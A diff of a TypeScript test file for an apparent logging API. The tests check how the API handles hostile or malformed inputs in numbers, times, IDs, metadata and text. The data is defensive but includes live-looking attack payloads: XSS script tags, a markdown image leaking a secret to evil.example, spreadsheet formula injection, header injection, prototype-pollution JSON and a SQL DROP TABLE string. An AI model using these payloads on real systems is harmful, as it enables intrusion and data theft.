@@ -1,7 +1,4 @@
-/**
- * Values that look harmless and are not: numbers, times, ids and texts of a log. The B numbers are those of our list of
- * bad inputs; where that list and API.md differ, API.md decides and the name says so.
- */
+/** Values that look harmless and are not: numbers, times, ids and texts of a log. */
 import { newId } from '#server/ids';
 import { expectContract, expectError, expectUnharmed } from '#tests/support/expectContract';
 import { aLogInput, aSpanInput } from '#tests/support/factories';
@@ -42,27 +39,27 @@ async function expectRejected(field: string, json: string, param = field): Promi
 
 describe('numbers', () => {
   test.each([
-    ['B42', '2147483648'],
-    ['B42', '1e18'],
-    ['B43', '1.5'],
-    ['B43', '-1'],
-    ['B43', '"12"'],
-    ['B43', 'true'],
-    ['B43', '[]'],
-    ['B44', '9007199254740993'],
-    ['B44', '9223372036854775807'],
-  ])('%s %s tokens are refused', async (_, json) => {
+    ['2147483648'],
+    ['1e18'],
+    ['1.5'],
+    ['-1'],
+    ['"12"'],
+    ['true'],
+    ['[]'],
+    ['9007199254740993'],
+    ['9223372036854775807'],
+  ])('%s tokens are refused', async (json) => {
     for (const field of ['input_tokens', 'output_tokens', 'cached_input_tokens']) await expectRejected(field, json);
   });
 
   test.each([
-    ['B43', '1e3', 1_000],
-    ['B43', '12.0', 12],
-    ['B47', '-0', 0],
-    ['', '0', 0],
-    ['', 'null', null],
-    ['', '1000000000', 1_000_000_000],
-  ])('%s %s tokens are stored', async (_, json, stored) => {
+    ['1e3', 1_000],
+    ['12.0', 12],
+    ['-0', 0],
+    ['0', 0],
+    ['null', null],
+    ['1000000000', 1_000_000_000],
+  ])('%s tokens are stored', async (json, stored) => {
     const body = await readBack(await postField('input_tokens', json));
     expect(body.input_tokens).toBe(stored);
     expect(JSON.stringify(body.input_tokens)).not.toBe('-0');
@@ -76,30 +73,30 @@ describe('numbers', () => {
   });
 
   test.each([
-    ['B46', '1e7'],
-    ['B46', '1000000'],
-    ['B46', '-0.01'],
-    ['B46', '"NaN"'],
-    ['B46', '"-1"'],
-    ['B46', '"1e3"'],
-    ['B46', '"Infinity"'],
-    ['B46', '""'],
-    ['B46', '"0x10"'],
-    ['B46', '"0.1234567890123"'],
-    ['B46', 'true'],
-  ])('%s a cost of %s is refused', async (_, json) => {
+    ['1e7'],
+    ['1000000'],
+    ['-0.01'],
+    ['"NaN"'],
+    ['"-1"'],
+    ['"1e3"'],
+    ['"Infinity"'],
+    ['""'],
+    ['"0x10"'],
+    ['"0.1234567890123"'],
+    ['true'],
+  ])('a cost of %s is refused', async (json) => {
     await expectRejected('cost_usd', json);
   });
 
   test.each([
-    ['B46', '1e-30', '0'],
-    ['', '0.1', '0.1'],
-    ['', '"0.100"', '0.1'],
-    ['', '"00012.50"', '12.5'],
-    ['', '"999999.99"', '999999.99'],
-    ['', '0.000001234567', '0.000001234567'],
-    ['', '-0', '0'],
-  ])('%s a cost of %s is stored as %s', async (_, json, stored) => {
+    ['1e-30', '0'],
+    ['0.1', '0.1'],
+    ['"0.100"', '0.1'],
+    ['"00012.50"', '12.5'],
+    ['"999999.99"', '999999.99'],
+    ['0.000001234567', '0.000001234567'],
+    ['-0', '0'],
+  ])('a cost of %s is stored as %s', async (json, stored) => {
     expect((await readBack(await postField('cost_usd', json))).cost_usd).toBe(stored);
   });
 });
@@ -127,12 +124,12 @@ describe('times', () => {
     '2021-06-15T00:00:00Z',
     'Mon, 15 Jun 2026 12:00:00 GMT',
     '１２３４-01-01T00:00:00Z',
-  ])('B48/B49 "%s" is no time that we believe', async (time) => {
+  ])('"%s" is no time that we believe', async (time) => {
     await expectRejected('started_at', JSON.stringify(time));
   });
 
   test.each(['1781524800', '1781524800000', '1781524800000000', 'true', '{}'])(
-    'B49 a time given as %s is refused',
+    'a time given as %s is refused',
     async (json) => {
       await expectRejected('started_at', json);
     },
@@ -149,7 +146,7 @@ describe('times', () => {
     expect((await readBack(await post(aLogInput({ started_at: given })))).started_at).toBe(stored);
   });
 
-  test('B49 null is the time of arrival less the latency', async () => {
+  test('null is the time of arrival less the latency', async () => {
     const body = await readBack(await post(aLogInput({ started_at: null, latency_ms: 1_500 })));
     expect(body.started_at).toBe('2026-06-15T11:59:58.500Z');
   });
@@ -168,11 +165,11 @@ describe('ids', () => {
     'my-own-id',
     '\ud83d',
     '0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b\u0000',
-  ])('B59 the id %j is refused: API.md takes UUIDs only', async (id) => {
+  ])('the id %j is refused: only UUIDs are accepted', async (id) => {
     await expectRejected('id', JSON.stringify(id));
   });
 
-  test('B59 null means that the server makes one, and upper case becomes lower case', async () => {
+  test('null means that the server makes one, and upper case becomes lower case', async () => {
     expect((await readBack(await post(aLogInput({ id: null })))).id).toMatch(/^[0-9a-f-]{36}$/);
     const id = newId();
     expect((await readBack(await post(aLogInput({ id: id.toUpperCase() })))).id).toBe(id);
@@ -190,7 +187,7 @@ describe('ids', () => {
 });
 
 describe('texts', () => {
-  test('B51 a NUL in the words becomes U+FFFD', async () => {
+  test('a NUL in the words becomes U+FFFD', async () => {
     const body = await readBack(
       await post(
         aLogInput({
@@ -212,24 +209,24 @@ describe('texts', () => {
   });
 
   test.each(['model', 'provider', 'name', 'trace_id', 'user_id', 'prompt_slug', 'environment'])(
-    'B51/B54 a NUL or half a character in %s is refused: an identifier that was changed would name another thing',
+    'a NUL or half a character in %s is refused: an identifier that was changed would name another thing',
     async (field) => {
       for (const text of ['a\u0000b', 'a\ud83d', '\udc00']) await expectRejected(field, JSON.stringify(text));
     },
   );
 
-  test('B51 a NUL in the name of a tag is refused', async () => {
+  test('a NUL in the name of a tag is refused', async () => {
     expectError(await post(aLogInput({ tags: { 'e\u0000nv': 'prod' } })), 'invalid_value', { message: /tags/ });
   });
 
-  test('B51 a NUL in the name of a span is refused', async () => {
+  test('a NUL in the name of a span is refused', async () => {
     const span = aSpanInput({ name: 'a\u0000b', started_at: NOW.toISOString() });
     const called = await app.call('POST', '/api/v1/spans', { body: { spans: [span] } });
     expectContract('createSpans', called, 400);
     expect(called.body.results[0]).toMatchObject({ id: span.id, error: { code: 'invalid_value', param: 'name' } });
   });
 
-  test('B52 a NUL in a key never merges it with another', async () => {
+  test('a NUL in a key never merges it with another', async () => {
     const called = await post({
       ...aLogInput(),
       metadata: { role: 'user', 'ro\u0000le': 'admin', 'ro\uFFFDle': 'third', 'ro\ud800le': 'fourth' },
@@ -239,12 +236,12 @@ describe('texts', () => {
     expect(metadata).toMatchObject({ role: 'user', 'ro\uFFFDle': 'third' });
   });
 
-  test('B53 the six characters \\u0000 are text', async () => {
+  test('the six characters \\u0000 are text', async () => {
     const content = 'not a NUL: \\u0000, nor \\\\u0000';
     expect((await readBack(await post(aLogInput({ response_content: content })))).response_content).toBe(content);
   });
 
-  test('B54 half a character becomes U+FFFD, a whole one stays', async () => {
+  test('half a character becomes U+FFFD, a whole one stays', async () => {
     const body = await readBack(
       await post(aLogInput({ response_content: '\ud83d|😀|\udc00', metadata: { '\ud83d': '\ud83d' } })),
     );
@@ -253,11 +250,11 @@ describe('texts', () => {
   });
 
   test.each([
-    ['B55', '{"__proto__":{"isAdmin":true},"a":1}'],
-    ['B56', '{"constructor":{"prototype":{"x":1}}}'],
-    ['B57', '{"constructor":1,"prototype":2,"__proto__":3,"toString":4,"hasOwnProperty":5}'],
-    ['B58', '{"a.__proto__.x":1,"a[0].b":2,"a.b":3}'],
-  ])('%s metadata of %s is kept literally, and touches no prototype', async (_, json) => {
+    ['{"__proto__":{"isAdmin":true},"a":1}'],
+    ['{"constructor":{"prototype":{"x":1}}}'],
+    ['{"constructor":1,"prototype":2,"__proto__":3,"toString":4,"hasOwnProperty":5}'],
+    ['{"a.__proto__.x":1,"a[0].b":2,"a.b":3}'],
+  ])('metadata of %s is kept literally, and touches no prototype', async (json) => {
     const called = await postField('metadata', json);
     expectContract('createLogs', called, 201);
     const read = await app.call('GET', `/api/v1/requests/${called.body.id}`);
@@ -266,7 +263,7 @@ describe('texts', () => {
     expect(({} as Record<string, unknown>).x).toBeUndefined();
   });
 
-  test('B55 a field named __proto__ is an unknown field like any other', async () => {
+  test('a field named __proto__ is an unknown field like any other', async () => {
     const called = await postField('__proto__', '{"org_id":"x","model":"y"}');
     expectContract('createLogs', called, 201);
     expect(called.body.model).toBe('gpt-4o-mini');
@@ -274,12 +271,12 @@ describe('texts', () => {
   });
 
   test.each([
-    ['B63', '<img src=x onerror=alert(1)></script><script>alert(1)</script>'],
-    ['B64', '[x](javascript:alert(1)) ![](https://evil.example/p.png?d=secret)'],
-    ['B66', `\u202E${'\u200B'.repeat(100)}${'Z\u0351\u036B'.repeat(1_000)}`],
-    ['B67', "=cmd|'/c calc'!A1"],
-    ['B68', 'a\r\nSet-Cookie: a=b'],
-    ['B69', '\u001b[2J\nfake log line'],
+    ['HTML', '<img src=x onerror=alert(1)></script><script>alert(1)</script>'],
+    ['Markdown with a script and an image', '[x](javascript:alert(1)) ![](https://evil.example/p.png?d=secret)'],
+    ['text with control and combining characters', `\u202E${'\u200B'.repeat(100)}${'Z\u0351\u036B'.repeat(1_000)}`],
+    ['a formula of a spreadsheet', "=cmd|'/c calc'!A1"],
+    ['a line of a header', 'a\r\nSet-Cookie: a=b'],
+    ['terminal controls and a line of a log', '\u001b[2J\nfake log line'],
     ['SQL', "'; DROP TABLE requests; --"],
     ['placeholders', '$1 %s {{x}} ${x} :name ?'],
   ])('%s in the words is stored as it is', async (_, text) => {
@@ -297,7 +294,7 @@ describe('texts', () => {
     expect(Object.entries(body.metadata)).toEqual([[text.slice(0, 250), text]]);
   });
 
-  test('B61 the same id with another body: 200, the stored one is unchanged, and the answer says that they differ', async () => {
+  test('the same id with another body: 200, the stored one is unchanged, and the answer says that they differ', async () => {
     const id = newId();
     const first = await post(aLogInput({ id, model: 'first' }));
     const second = await post(aLogInput({ id, model: 'second' }));
